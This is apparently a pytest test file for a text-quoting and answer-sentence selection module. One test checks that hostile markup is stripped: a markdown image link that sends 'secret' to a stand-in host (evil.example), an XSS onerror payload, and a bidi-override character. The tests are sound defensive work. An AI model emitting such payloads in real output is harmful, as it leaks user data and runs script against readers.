"""Quotations: what others wrote, as plain text, and the sentences of it that answer."""

import pytest

from aionserver.kit.quoting import Measure, best_sentences, first_sentence, plain_quote
from aionserver.kit.sentences import sentences


@pytest.mark.parametrize(
    ("written", "quoted"),
    [
        ("See [[img:0123456789|a.jpg]] now", "See img:0123456789|a.jpg now"),
        ("![x](http://evil.example/?q=secret) and [here](http://evil.example)", "x and here"),
        ("a <img src=x onerror=alert(1)> b", "a b"),
        ("one\n\n two\tthree", "one two three"),
        ("turn\u202eed and\x00 nul", "turned and nul"),
        ("# Heading\n**bold** `code`", "Heading bold code"),
    ],
)
def test_markup_of_others_leads_nowhere(written: str, quoted: str) -> None:
    assert plain_quote(written) == quoted


def test_a_long_text_is_cut_at_a_word() -> None:
    assert plain_quote("word " * 100, 22) == "word word word word…"
    assert len(plain_quote("x" * 10_000, 50)) <= 50


def test_a_text_has_sentences() -> None:
    text = "The pump runs at 3.5 bar. It must be stopped first!\n\n- Check the valve. Then go on."
    assert sentences(text) == [
        "The pump runs at 3.5 bar.",
        "It must be stopped first!",
        "- Check the valve.",
        "Then go on.",
    ]
    assert first_sentence(text) == "The pump runs at 3.5 bar."


def test_the_sentence_that_answers_is_chosen() -> None:
    passages = [
        ("The pump is red. Change the filter of the pump every 500 hours. Keep the room tidy.", 0.8),
        ("Filters are kept in the store. The weather is fine today in the valley.", 0.4),
    ]
    (best,) = best_sentences("How often should the filter be changed?", passages, Measure(1))
    assert (best.text, best.passage) == ("Change the filter of the pump every 500 hours.", 0)
    assert len(best_sentences("filter", passages, Measure(5))) <= 5
    assert best_sentences("zebra", passages, Measure(3)) == []


def test_nothing_is_quoted_twice() -> None:
    twice = [("Change the filter every 500 hours.", 0.9), ("Change the filter every 500 hours.", 0.8)]
    assert len(best_sentences("filter", twice, Measure(3))) == 1


def test_an_answer_is_as_long_as_it_needs_to_be() -> None:
    long = "The filter of the pump is changed by two people who have read all of the manual before. "
    passages = [(f"Change the filter every 500 hours. {long}The valve of the pump is blue.", 0.8)]
    question = "When is the filter changed, every how many hours?"
    every = [one.text for one in best_sentences(question, passages, Measure(5))]
    assert len(every) == 3
    assert [one.text for one in best_sentences(question, passages, Measure(5, share=0.5))] == every[:2]
    assert [one.text for one in best_sentences(question, passages, Measure(5, words=8))] == every[:1]
    (cut,) = best_sentences("filter", [("The filter is new and white and round.", 0.5)], Measure(5, words=2))
    assert cut.text.startswith("The filter")


@pytest.mark.parametrize(
    ("question", "answer"),
    [
        ("how much is the rent?", "The monthly rent is £1,250, due in advance."),
        ("who is the landlord?", "This lease is made between Margaret Holloway, the landlord, and Tomas Rivera."),
        ("what is the maximum flow?", "Maximum flow: 3,600 litres per hour"),
        ("how to maintain it?", "Clean the filter every 50 hours."),
        ("what does it cost?", "The fee is 40 euros."),
    ],
)
def test_what_is_asked_for_is_quoted_first(question: str, answer: str) -> None:
    lease = (
        "Lease\n\nThis lease is made between Margaret Holloway, the landlord, and Tomas Rivera.\n\n"
        "Rent\n\nThe rent may be raised once a year by the landlord. The monthly rent is £1,250, due in advance."
    )
    manual = (
        "| Property | Value |\n| --- | --- |\n| Maximum flow | 3,600 litres per hour |\n| Weight | 9.4 kg |\n\n"
        "Maintenance\n\nClean the filter every 50 hours.\n\nCosts\n\nThe fee is 40 euros."
    )
    found = best_sentences(question, [(lease, 0.5), (manual, 0.5)], Measure(3))
    assert max(found, key=lambda one: one.weight).text == answer


def test_what_was_asked_before_tells_a_little() -> None:
    passages = [("The pump weighs little. The boiler is made of steel.", 0.5)]
    assert best_sentences("and how about that?", passages, Measure(1)) == []
    (found,) = best_sentences("and how about that?", passages, Measure(1), "what is the boiler made of?")
    assert found.text == "The boiler is made of steel."
